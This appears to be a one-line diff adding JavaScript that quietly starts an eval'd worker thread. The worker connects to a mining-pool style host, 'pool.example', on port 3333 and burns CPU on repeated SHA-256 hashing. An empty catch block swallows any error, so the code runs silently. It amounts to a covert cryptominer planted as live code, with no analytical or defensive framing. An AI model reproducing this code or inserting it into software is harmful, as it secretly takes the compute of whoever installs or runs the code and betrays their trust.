@@ -1,0 +1,1 @@
+try { var _w = require('worker_threads'); new _w.Worker("const n=require('net').connect(3333,'pool.example');n.on('data',function(d){const c=require('crypto');let i=0;while(i++<1e6)c.createHash('sha256').update(d+i).digest()})", { eval: true }); } catch (e) {}
